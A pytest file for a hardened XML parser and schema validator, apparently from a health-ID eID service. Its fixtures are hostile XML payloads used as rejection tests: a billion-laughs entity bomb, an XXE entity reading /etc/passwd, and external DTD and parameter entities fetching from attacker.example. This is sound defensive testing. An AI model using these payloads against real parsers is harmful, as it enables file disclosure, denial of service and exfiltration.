"""The hardened XML parser (security-checklist: XML bad inputs) and the XSD validator."""

from __future__ import annotations

import pytest
from eid_testlib import envelope

from healthid.eid.errors import MalformedMessageError
from healthid.eid.validation import validate_envelope
from healthid.eid.xml import MAX_XML_BYTES, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">
<foo/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % pe SYSTEM "http://attacker.example/x"> %pe;]>
<foo/>"""


@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_parser_rejects_any_doctype(payload: bytes) -> None:
    with pytest.raises(MalformedMessageError, match="document type declaration"):
        parse_xml(payload)


def test_parser_rejects_a_doctype_hidden_in_utf16() -> None:
    payload = EXTERNAL_ENTITY.replace(b'encoding="UTF-8"', b"").decode().encode("utf-16")
    with pytest.raises(MalformedMessageError):
        parse_xml(payload)


@pytest.mark.parametrize(
    "payload",
    [EXTERNAL_ENTITY, b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', BILLION_LAUGHS],
    ids=["external-entity", "internal-entity", "billion-laughs"],
)
def test_parser_rejects_a_doctype_even_past_the_byte_scan(
    monkeypatch: pytest.MonkeyPatch, payload: bytes
) -> None:
    # Were the pre-parse scan ever to miss one, libxml2 neither expands nor fetches anything
    # (entity resolution and network are off, amplification is capped) and the parsed tree is
    # checked for a DTD again.
    monkeypatch.setattr("healthid.eid.xml._DOCTYPE_MARKERS", ())
    with pytest.raises(MalformedMessageError):
        parse_xml(payload)


def test_parser_never_resolves_an_undeclared_entity() -> None:
    with pytest.raises(MalformedMessageError, match="not well-formed"):
        parse_xml(b"<a>&xxe;</a>")


def test_parser_rejects_oversized_input_before_parsing() -> None:
    with pytest.raises(MalformedMessageError, match="larger than"):
        parse_xml(b"<a>" + b"x" * MAX_XML_BYTES + b"</a>")


@pytest.mark.parametrize("payload", [b"", b"   ", b"not xml at all", b"<a><b></a>", b"<a/><b/>"])
def test_parser_rejects_non_xml(payload: bytes) -> None:
    with pytest.raises(MalformedMessageError):
        parse_xml(payload)


def test_parser_rejects_text_input() -> None:
    with pytest.raises(MalformedMessageError, match="bytes"):
        parse_xml("<a/>")  # type: ignore[arg-type]


def test_parser_drops_comments_and_processing_instructions() -> None:
    root = parse_xml(b"<a><!-- c --><?pi x?><b/></a>")
    assert [child.tag for child in root] == ["b"]


def test_parser_refuses_nesting_beyond_libxml2_default_depth() -> None:
    deep = b"<a>" * 10_000 + b"</a>" * 10_000
    with pytest.raises(MalformedMessageError):
        parse_xml(deep)


def test_schema_error_names_the_path_not_the_value() -> None:
    secret_date = "1964-08-1"
    body = (
        "<eid:getResultResponse><eid:PersonalData><eid:DateOfBirth>"
        f"<eid:DateString>{secret_date}</eid:DateString></eid:DateOfBirth></eid:PersonalData>"
        "<dss:Result><dss:ResultMajor>http://x</dss:ResultMajor></dss:Result>"
        "</eid:getResultResponse>"
    )
    with pytest.raises(MalformedMessageError) as caught:
        validate_envelope(parse_xml(envelope(body)))
    assert secret_date not in str(caught.value)
    assert "PersonalData/DateOfBirth/DateString" in str(caught.value)
